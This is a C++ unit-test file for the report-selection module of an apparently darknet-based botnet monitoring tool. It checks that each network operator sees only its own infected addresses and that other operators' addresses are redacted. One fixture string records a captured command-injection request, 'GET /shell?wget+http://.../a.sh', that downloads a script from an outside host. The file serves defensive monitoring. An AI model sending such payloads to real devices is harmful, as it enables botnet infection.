#include "act/report/selection.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "act/report/report_testing.hpp"

namespace noroshi::report {
namespace {

using testing::ElementsAre;

std::vector<std::string> addresses(const Selection& selection) {
  std::vector<std::string> out;
  for (const auto& one : selection.infected) out.push_back(one.host.address.to_string());
  return out;
}

class ReportSelection : public testing::Test {
 protected:
  registry::Registry registry_ = test_registry();
  Atlas atlas_{&registry_};
  scan::Day day_ = test_day();
};

TEST_F(ReportSelection, TheWholeHoldsEverything) {
  const auto all = select_all(day_, atlas_, "dark-1");
  EXPECT_TRUE(all.whole());
  EXPECT_EQ(all.infected.size(), 7U);
  EXPECT_EQ(all.reader.standings, (Standings{4, 1, 1, 1}));
  ASSERT_EQ(all.networks.size(), 3U);
  EXPECT_EQ(all.networks[0].id, "example-telecom");
  EXPECT_EQ(all.networks[0].standings, (Standings{2, 1, 0, 1}));
  EXPECT_EQ(all.campaigns[0].own_sources, 3U);
}

TEST_F(ReportSelection, AnOperatorHearsOfItsOwnAddressesOnly) {
  const auto telecom =
      select_for("example-telecom", day_, shares_of(day_, atlas_), atlas_, "dark-1");
  EXPECT_THAT(addresses(telecom),
              ElementsAre("192.0.2.7", "192.0.2.9", "192.0.2.200", "2001:db8::5"));
  ASSERT_EQ(telecom.victims.size(), 1U);
  EXPECT_EQ(telecom.victims[0].victim.victim, address("2001:db8::80"));
  EXPECT_EQ(telecom.campaigns[0].own_sources, 2U);
  EXPECT_EQ(telecom.campaigns[0].sources, 3U);
  EXPECT_TRUE(telecom.researchers.empty());
  EXPECT_EQ(telecom.all_researchers, 2U);
  EXPECT_EQ(telecom.hosts.size(), 1U);
  EXPECT_TRUE(telecom.services.empty());
}

TEST_F(ReportSelection, ARangeWithinAnothersIsTheInnerOperators) {
  EXPECT_THAT(addresses(select_for("campus", day_, shares_of(day_, atlas_), atlas_, "dark-1")),
              ElementsAre("192.0.2.70", "198.51.100.4"));
}

TEST_F(ReportSelection, DarkAddressesAreWithheldFromEverybody) {
  for (const auto& one : select_all(day_, atlas_, "dark-1").infected) {
    for (const auto& sighting : one.host.sightings) {
      EXPECT_EQ(sighting.destination, net::Address());
    }
  }
}

TEST_F(ReportSelection, PayloadsLoseOthersAddresses) {
  const auto campus = select_for("campus", day_, shares_of(day_, atlas_), atlas_, "dark-1");
  EXPECT_EQ(campus.novelties[1].payload, "GET /shell?wget+http://[address]/a.sh\\x0d\\x0a");
  const auto all = select_all(day_, atlas_, "dark-1");
  EXPECT_EQ(all.novelties[1].payload, "GET /shell?wget+http://203.0.113.66/a.sh\\x0d\\x0a");
}

TEST_F(ReportSelection, HoursWithoutARecordAreTold) {
  EXPECT_THAT(select_all(day_, atlas_, "").missing_hours, ElementsAre(kTestDay + 4 * base::kHour));
}

TEST_F(ReportSelection, OnlyThoseWithSomethingToHearAreConcerned) {
  EXPECT_THAT(concerned(shares_of(day_, atlas_)), ElementsAre("campus", "example-telecom"));
  day_.victims.clear();
  day_.infected = {infected("203.0.113.5", "mirai", model::Standing::New)};
  EXPECT_TRUE(concerned(shares_of(day_, atlas_)).empty());
}

TEST_F(ReportSelection, TheRegisteredRangeIsThePoolOfItsSubscribers) {
  const auto pool = atlas_.pools()(address("192.0.2.70"));
  EXPECT_EQ(pool.pool, "192.0.2.64/26");
  EXPECT_EQ(pool.network, "campus");
  EXPECT_EQ(atlas_.pools()(address("203.0.113.5")).pool, "");
}

TEST_F(ReportSelection, PlacesFillWhatTheRegistryDoesNotSay) {
  const auto input = io::Input::over(
      "prefix,country,network\n203.0.113.0/24,DE,AS64555 Example Hosts\n192.0.2.0/24,US,AS1 X\n");
  const places::Places places({places::read_places(*input).value()});
  const Atlas atlas(&registry_, &places);
  EXPECT_EQ(atlas.spot_of(address("203.0.113.5")).country, "DE");
  EXPECT_EQ(atlas.spot_of(address("203.0.113.5")).asn, 64'555U);
  EXPECT_EQ(atlas.spot_of(address("192.0.2.7")).country, "JP");
  EXPECT_EQ(Atlas(nullptr).spot_of(address("192.0.2.7")).operator_id, "");
}

}  // namespace
}  // namespace noroshi::report
